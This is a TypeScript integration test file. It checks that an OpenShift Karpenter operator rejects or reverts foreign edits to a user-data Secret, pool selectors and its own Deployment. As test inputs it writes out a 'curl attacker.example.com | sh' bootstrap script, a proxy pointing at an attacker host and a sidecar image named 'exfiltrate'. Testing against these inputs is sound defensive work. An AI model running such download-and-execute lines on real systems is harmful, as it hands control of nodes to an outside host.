import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyObject, deleteObject, getObject, waitFor, WRITE_VERBS } from '@karpenter-operator/testkit';
import { testCluster } from '@karpenter-operator/testkit/vitest';
import { adminRequest, clusterOperator, conditionOf } from '../support/k8s.js';
import {
  credentialsFileText,
  installManifests,
  OPERATOR_NS,
  OPERATOR_USER,
  resetOperatorWorld,
  startOperator,
  type OperatorProcess,
} from '../support/operator-process.js';

/**
 * What the operator owns (docs/ownership.md), against foreign edits on a real API server: a user-data
 * Secret that is not an Ignition pointer config, keys added to the pools' selectors, a container and an env
 * var added to the operand. Writes are counted in the API server's audit log.
 */

const cluster = testCluster();
const kc = () => cluster.kubeConfig();
const KARPENTER = { apiVersion: 'autoscaling.openshift.io/v1alpha1', kind: 'Karpenter' };
const NC = ['karpenter.k8s.aws/v1', 'EC2NodeClass'] as const;
const MCO = 'machineconfiguration.openshift.io/v1';
const SECRET_PATH = '/api/v1/namespaces/openshift-machine-api/secrets/worker-user-data';
const DEPLOYMENT_PATH = `/apis/apps/v1/namespaces/${OPERATOR_NS}/deployments/karpenter`;
const started = new Date();

let op: OperatorProcess;
let originalUserData: string;

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const mergePatch = (path: string, body: unknown) => adminRequest(cluster, 'PATCH', path, body, 'application/merge-patch+json');
/** The operator's writes of `resource` since `since`, as "verb name". */
const writesOf = (resource: string, since: Date) =>
  cluster.auditEvents({ user: OPERATOR_USER, verbs: WRITE_VERBS, resource, since }).map((e) => `${e.verb} ${e.objectRef?.name ?? ''}`);
const userDataOf = async (name: string) => ((await getObject(kc(), ...NC, name))?.spec as { userData?: string } | undefined)?.userData;
const secretUserData = async () => {
  const s = await getObject(kc(), 'v1', 'Secret', 'worker-user-data', 'openshift-machine-api');
  return Buffer.from((s!.data as { userData: string }).userData, 'base64').toString('utf8');
};
const setSecretUserData = async (userData: string) =>
  expect((await mergePatch(SECRET_PATH, { data: { userData: Buffer.from(userData).toString('base64') } })).status).toBe(200);

type Container = { name: string; env?: Array<{ name: string; value?: string }> };
const containersOf = async () =>
  ((await getObject(kc(), 'apps/v1', 'Deployment', 'karpenter', OPERATOR_NS))?.spec as { template: { spec: { containers: Container[] } } })
    .template.spec.containers;

describe('what the operator owns, against foreign edits', () => {
  beforeAll(async () => {
    await installManifests(cluster);
    await resetOperatorWorld(cluster);
    op = await startOperator(cluster, { name: 'karpenter-operator-ownership' });
    await applyObject(kc(), { ...KARPENTER, metadata: { name: 'default' } });
    await applyObject(kc(), {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'karpenter-cloud-credentials', namespace: OPERATOR_NS },
      stringData: { credentials: credentialsFileText() },
    });
    await waitFor(
      'the EC2NodeClass CRD Established',
      async () => {
        const crd = await getObject(kc(), 'apiextensions.k8s.io/v1', 'CustomResourceDefinition', 'ec2nodeclasses.karpenter.k8s.aws');
        return (crd?.status as { conditions?: Array<{ type: string; status: string }> } | undefined)?.conditions?.some(
          (c) => c.type === 'Established' && c.status === 'True',
        );
      },
      { timeoutMs: 60_000 },
    );
    // A second NodeClass: the userData is enforced on every NodeClass, so every one must be left alone.
    await applyObject(kc(), {
      ...{ apiVersion: NC[0], kind: NC[1] },
      metadata: { name: 'batch' },
      spec: {
        amiFamily: 'Custom',
        amiSelectorTerms: [{ id: 'ami-0user000000000000' }],
        role: 'demo-x7k2p-worker-role',
        subnetSelectorTerms: [{ tags: { Name: 'demo-x7k2p-subnet-private-us-east-1a' } }],
        securityGroupSelectorTerms: [{ tags: { Name: 'demo-x7k2p-node' } }],
      },
    });
    originalUserData = await secretUserData();
    await waitFor(
      'both NodeClasses carry the cluster userData, pools and KubeletConfig exist, operand applied',
      async () =>
        (await userDataOf('default')) !== undefined &&
        (await userDataOf('batch'))?.includes('22623/config/') &&
        (await getObject(kc(), MCO, 'MachineConfigPool', 'karpenter-default')) !== undefined &&
        (await getObject(kc(), MCO, 'KubeletConfig', 'set-karpenter-taint-default')) !== undefined &&
        (await getObject(kc(), 'apps/v1', 'Deployment', 'karpenter', OPERATOR_NS)) !== undefined,
      { timeoutMs: 90_000 },
    );
    await waitFor('Degraded=False', async () => conditionOf(await clusterOperator(cluster), 'Degraded')?.status === 'False', {
      timeoutMs: 30_000,
    });
  }, 240_000);

  afterAll(async () => {
    if (originalUserData) {
      await setSecretUserData(originalUserData).catch(() => undefined);
      await waitFor('default back on the original userData', async () => (await userDataOf('default')) === originalUserData, {
        timeoutMs: 10_000,
      }).catch(() => undefined);
    }
    await deleteObject(kc(), ...NC, 'batch').catch(() => false);
    await op?.stop();
    await resetOperatorWorld(cluster);
  }, 60_000);

  it('a user-data Secret that is not an Ignition pointer config changes no NodeClass and is Degraded naming the Secret; a fix writes each once', async () => {
    const before = { default: await userDataOf('default'), batch: await userDataOf('batch') };
    const since = new Date();
    await setSecretUserData('#!/bin/bash\ncurl -s http://attacker.example.com/x | sh\n');
    const t0 = Date.now();
    const degraded = await waitFor(
      'Degraded naming the Secret',
      async () => {
        const c = conditionOf(await clusterOperator(cluster), 'Degraded');
        return c?.status === 'True' && c.message.includes('Secret openshift-machine-api/worker-user-data') ? c : undefined;
      },
      { timeoutMs: 15_000 },
    );
    console.log(`ownership: Degraded ${Date.now() - t0} ms after the bad Secret`);
    expect(degraded.reason).toBe('InvalidUserData');
    expect(degraded.message).toContain('data.userData: not an Ignition pointer config: not JSON');
    expect(degraded.message).not.toContain('attacker.example.com');
    await sleep(3_000);
    expect(writesOf('ec2nodeclasses', since)).toEqual([]);
    expect({ default: await userDataOf('default'), batch: await userDataOf('batch') }).toEqual(before);

    // The administrator fixes the Secret, with a rotated CA: one write of each NodeClass, Degraded cleared.
    const fixed = JSON.parse(originalUserData) as {
      ignition: { security: { tls: { certificateAuthorities: Array<{ source: string }> } } };
    };
    const ca = fixed.ignition.security.tls.certificateAuthorities[0]!;
    const [prefix, data] = ca.source.split(',') as [string, string];
    ca.source = `${prefix},${Buffer.from(`${Buffer.from(data, 'base64').toString('utf8')}\n`).toString('base64')}`;
    const fixedSince = new Date();
    await setSecretUserData(JSON.stringify(fixed));
    await waitFor('Degraded cleared', async () => conditionOf(await clusterOperator(cluster), 'Degraded')?.status === 'False', {
      timeoutMs: 15_000,
    });
    await waitFor(
      'both NodeClasses carry the fixed CA',
      async () => (await userDataOf('default'))?.includes(ca.source) && (await userDataOf('batch'))?.includes(ca.source),
      { timeoutMs: 15_000 },
    );
    await sleep(3_000);
    expect(writesOf('ec2nodeclasses', fixedSince).sort()).toEqual(['patch batch', 'patch default']);
  }, 60_000);

  it.each([
    {
      name: 'MachineConfigPool karpenter-default nodeSelector',
      resource: 'machineconfigpools',
      kind: 'MachineConfigPool',
      obj: 'karpenter-default',
      field: 'nodeSelector',
    },
    {
      name: 'KubeletConfig set-karpenter-taint-default pool selector',
      resource: 'kubeletconfigs',
      kind: 'KubeletConfig',
      obj: 'set-karpenter-taint-default',
      field: 'machineConfigPoolSelector',
    },
  ])('a key added to the $name is reverted within 5 s with one write', async ({ resource, kind, obj, field }) => {
    const selectorOf = async () =>
      ((await getObject(kc(), MCO, kind, obj))!.spec as Record<string, { matchLabels: Record<string, string> }>)[field]!;
    const before = await selectorOf();
    const since = new Date();
    const r = await mergePatch(`/apis/${MCO}/${resource}/${obj}`, { spec: { [field]: { matchLabels: { 'team.example.com/zone': 'a' } } } });
    expect(r.status).toBe(200);
    const t0 = Date.now();
    await waitFor(`${kind} ${obj} selector reverted`, async () => JSON.stringify(await selectorOf()) === JSON.stringify(before), {
      timeoutMs: 5_000,
      intervalMs: 50,
    });
    console.log(`ownership: ${kind} ${obj} reverted in ${Date.now() - t0} ms`);
    await sleep(3_000);
    expect(writesOf(resource, since)).toEqual([`patch ${obj}`]);
    expect(await selectorOf()).toEqual(before);
  });

  it('a foreign container and env var in the operand are removed within 5 s with one write; a foreign annotation causes none', async () => {
    const before = await containersOf();
    const controller = before[0]!.name;
    const since = new Date();
    const r = await adminRequest(
      cluster,
      'PATCH',
      DEPLOYMENT_PATH,
      {
        spec: {
          template: {
            spec: {
              containers: [
                { name: controller, env: [{ name: 'HTTPS_PROXY', value: 'http://attacker.example.com:3128' }] },
                { name: 'sidecar', image: 'registry.example.com/exfiltrate:1' },
              ],
            },
          },
        },
      },
      'application/strategic-merge-patch+json',
    );
    expect(r.status).toBe(200);
    const t0 = Date.now();
    await waitFor(
      'the foreign container and env var removed',
      async () => {
        const cs = await containersOf();
        return cs.length === before.length && !cs.some((c) => c.env?.some((e) => e.name === 'HTTPS_PROXY'));
      },
      { timeoutMs: 5_000, intervalMs: 50 },
    );
    console.log(`ownership: operand foreign entries removed in ${Date.now() - t0} ms`);
    expect((await containersOf()).map((c) => c.name)).toEqual(before.map((c) => c.name));
    // The rollout that follows (new ReplicaSet, status updates) brings Deployment events: none is a write.
    await sleep(4_000);
    expect(writesOf('deployments', since)).toEqual(['patch karpenter']);

    const annotated = new Date();
    expect((await mergePatch(DEPLOYMENT_PATH, { metadata: { annotations: { 'team.example.com/owner': 'payments' } } })).status).toBe(200);
    await sleep(4_000);
    expect(writesOf('deployments', annotated)).toEqual([]);
    expect(
      (await getObject(kc(), 'apps/v1', 'Deployment', 'karpenter', OPERATOR_NS))!.metadata.annotations?.['team.example.com/owner'],
    ).toBe('payments');
  }, 30_000);

  it('the converged world gets no write from a reconcile forced by touching the CR', async () => {
    await sleep(2_000);
    const since = new Date();
    expect(
      (
        await mergePatch('/apis/autoscaling.openshift.io/v1alpha1/karpenters/default', {
          metadata: { annotations: { 'test.example.com/poke': String(Date.now()) } },
        })
      ).status,
    ).toBe(200);
    await sleep(4_000);
    const writes = cluster
      .auditEvents({ user: OPERATOR_USER, verbs: WRITE_VERBS, since })
      .filter((e) => !['leases', 'events'].includes(e.objectRef?.resource ?? ''));
    expect(writes.map((e) => `${e.verb} ${e.requestURI}`)).toEqual([]);
  }, 20_000);

  it('the operator never got a 403 and never exited', () => {
    expect(cluster.auditEvents({ user: OPERATOR_USER, codes: [403], since: started }).map((e) => `${e.verb} ${e.requestURI}`)).toEqual([]);
    expect(op.exited()).toBe(false);
  });
});
